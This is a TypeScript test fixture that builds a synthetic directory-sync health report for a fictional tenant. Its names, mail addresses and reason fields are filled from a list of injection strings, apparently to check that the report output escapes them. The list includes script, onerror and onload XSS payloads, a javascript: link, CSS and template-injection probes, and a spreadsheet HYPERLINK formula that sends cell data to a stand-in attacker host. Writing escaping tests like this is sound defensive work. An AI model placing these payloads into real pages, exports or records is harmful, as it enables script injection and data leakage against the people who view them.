import type { ReportContent } from '../../activities/report/content.ts';
import { covered } from '../../activities/report/subject.ts';
import { reportSchema } from '../../rules/report-settings.ts';
import type { ReportedObject } from '../../store/report-errors.ts';

/** Names that would like to do something, wherever a report shows them. */
export const HOSTILE: readonly string[] = [
  '<script>document.title = "caught"</script>',
  '<img src=x onerror="document.title = \'caught\'">',
  '"><svg onload=document.title="caught">',
  '<a href="javascript:document.title=1">click</a>',
  '=HYPERLINK("http://evil.example/?" & A1, "click")',
  "' onmouseover='document.title=1",
  '</style><style>body { display: none }</style>',
  '${7*7} {{7*7}} &lt;script&gt;',
];

const NOW = new Date('2026-11-23T05:00:00Z');
const DAY_MS = 86_400_000;

/** A report in which everything that a page can show is there, each name hostile. */
export function hostileReport(): ReportContent {
  const at = (days: number): Date => new Date(NOW.getTime() - days * DAY_MS);
  const object = (text: string): ReportedObject => ({
    dn: `CN=${text},OU=People,DC=corp,DC=contoso,DC=test`,
    displayName: text,
    mail: `${text}@contoso.test`,
  });
  const errors = HOSTILE.map((text, index) => ({
    ...object(text),
    code: index % 2 === 0 ? ('SE303' as const) : ('SE101' as const),
    forest: 'corp',
    guid: '00000000-0000-4000-8000-000000000001',
    kind: 'user' as const,
    attribute: 'proxyAddresses',
    details: `smtp:${text} is held`,
    other: index % 2 === 0 ? object(`the other ${text}`) : null,
    firstSeen: at(index + 1),
    lastSeen: NOW,
    count: 3,
  }));
  return {
    customer: 'contoso',
    about: covered('contoso', { kind: 'day', day: '2026-11-22' }, 'Europe/Berlin', NOW),
    madeAt: NOW,
    settings: reportSchema.parse({ timeZone: 'Europe/Berlin' }),
    listed: 200,
    totals: {
      ...{ users: 1630, contacts: 412, groups: 388, mailboxes: 1211, voice: 640 },
      ...{
        servicesOpen: 4,
        servicesBlocked: 1,
        inError: errors.length,
        ending: HOSTILE.length,
        waiting: HOSTILE.length + 1,
      },
    },
    codes: [
      { code: 'SE101', objects: 4, since: at(8) },
      { code: 'SE303', objects: 4, since: at(7) },
    ],
    errors,
    longest: errors.toReversed(),
    conflicts: errors.filter(({ other }) => other !== null),
    endings: HOSTILE.map((text, index) => ({
      ...object(text),
      identity: '00000000-0000-4000-8000-000000000002',
      forest: 'corp',
      kind: 'user',
      stage: 'grace',
      ending: 'outOfScope',
      deadline: index === 0 ? null : at(-index),
      delayedBy: index === 0 ? text : null,
    })),
    lists: [
      {
        ...{
          customer: 'contoso',
          forest: 'corp',
          run: '17',
          profile: 'delta',
          workflowId: 'cycle/contoso/corp',
          hash: 'a1b2c3',
          changes: 730,
        },
        ...{ reasons: ['deletions: 730 of 2430 users, more than 5 %', ...HOSTILE], since: at(1) },
      },
    ],
    cases: HOSTILE.map((text) => ({
      ...object(text),
      what: 'reconnection',
      forest: 'corp',
      guid: '00000000-0000-4000-8000-000000000003',
      code: 'SE821',
      candidates: [{ dn: `CN=${text},OU=Gone,DC=corp,DC=contoso,DC=test`, rule: text }],
      since: at(2),
    })),
    warnings: [
      {
        forest: 'corp',
        namingContext: 'DC=corp,DC=contoso,DC=test',
        code: 'FW201',
        attribute: HOSTILE[0] ?? '',
        since: at(3),
      },
    ],
    domains: [
      { forest: 'corp', namingContext: 'DC=corp,DC=contoso,DC=test', readAt: at(4), staleSince: at(4), doubted: true },
    ],
    cycleTotals: { cycles: 96, completed: 95, failed: 1, confirmed: 214, provisioned: 6 },
    cycles: [
      {
        ...{ run: '17', forest: 'corp', profile: 'delta', startedAt: at(1), endedAt: null, outcome: null },
        ...{ read: 31, changed: 12, confirmed: null, provisioned: null, errors: 8 },
      },
    ],
    trend: Array.from({ length: 30 }, (_, index) => ({
      day: at(30 - index)
        .toISOString()
        .slice(0, 10),
      errors: index < 5 ? null : 40 - index,
      confirmed: index === 5 ? 2400 : index < 5 ? null : (index * 37) % 90,
      provisioned: index < 5 ? null : index % 7,
    })),
  };
}
